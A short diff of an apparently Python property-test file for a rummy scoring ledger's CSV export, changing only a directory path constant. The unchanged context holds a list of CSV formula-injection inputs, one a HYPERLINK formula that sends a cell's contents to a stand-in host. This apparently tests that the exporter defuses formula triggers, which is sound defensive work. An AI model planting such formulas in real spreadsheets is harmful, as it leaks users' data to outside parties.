@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from referee.games.rummy.ledger.exchange import FORMULA_TRIGGERS, score_sheet_csv, tally
 from tests.properties import examples
 
-GAMES = Path(__file__).parent.parent / "games"
+GAMES = Path(__file__).parents[2]
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"go")', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
